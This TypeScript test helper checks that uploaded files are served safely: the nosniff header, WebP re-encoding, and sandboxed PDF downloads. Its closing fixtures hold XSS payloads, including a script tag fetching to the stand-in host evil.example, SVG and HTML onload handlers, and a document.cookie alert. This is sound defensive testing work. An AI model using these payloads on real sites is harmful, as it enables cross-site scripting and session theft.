/**
 * What is wrong with how a stored file is served; empty when no browser would run any of it.
 * @param cookie of the session that uploaded it
 * @param number of the hostile file that was sent
 */
export async function checkServedFile(base: string, cookie: string, url: string, number: number): Promise<string[]> {
  const response = await fetch(new URL(url, base), { headers: { cookie } });
  const body = Buffer.from(await response.arrayBuffer());
  const { headers } = response;
  const faults: string[] = [];
  if (response.status !== 200) faults.push(`its address answers ${response.status}`);
  if (headers.get("x-content-type-options") !== "nosniff") faults.push("it is served without nosniff");
  if (headers.get("x-injected")) faults.push("a header was injected");
  const type = headers.get("content-type");
  if (type === "image/webp") return [...faults, ...checkImage(body, number)];
  if (type === "application/pdf") return [...faults, ...checkDocument(headers)];
  return [...faults, `it is served as ${type}`];
}

function checkImage(body: Buffer, number: number): string[] {
  const faults: string[] = [];
  if (body.subarray(0, 4).toString("latin1") !== "RIFF" || body.subarray(8, 12).toString("latin1") !== "WEBP")
    faults.push("its bytes are no WebP");
  if (body.includes(canary(number)) || /<script|<svg|<html|javascript:/i.test(body.toString("latin1")))
    faults.push("something of the old file is left in it");
  return faults;
}

function checkDocument(headers: Headers): string[] {
  const faults: string[] = [];
  if (!headers.get("content-disposition")?.startsWith("attachment"))
    faults.push("a document is not sent as a download");
  if (!headers.get("content-security-policy")?.includes("sandbox")) faults.push("a document is not in a sandbox");
  return faults;
}

/** What must never be served: a script in any form. Each file contains it with its own number. */
export const canary = (number: number): string => `hostile-mark-${number}-`;
export const script = (number: number): string => `<script>fetch("//evil.example/${canary(number)}")</script>`;
export const svg = (number: number): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${canary(number)}')">${script(number)}</svg>`;
export const html = (number: number): string =>
  `<!doctype html><html><body onload="alert(1)">${script(number)}</body></html>`;
export const js = (number: number): string => `/*${canary(number)}*/alert(document.cookie)//`;
